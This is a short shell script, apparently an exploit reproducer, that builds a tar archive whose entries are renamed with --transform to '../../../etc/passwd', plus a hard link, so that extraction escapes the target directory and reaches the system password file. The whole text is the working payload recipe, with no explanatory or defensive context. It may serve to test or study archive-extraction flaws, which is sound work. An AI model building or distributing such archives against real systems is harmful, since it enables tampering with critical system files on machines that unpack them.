mkdir x
printf f > x/f
ln x/f x/g
tar --owner=0 --group=0 -cPf a.tar -C x --transform 's,^f$,../../../etc/passwd,RSh' f g
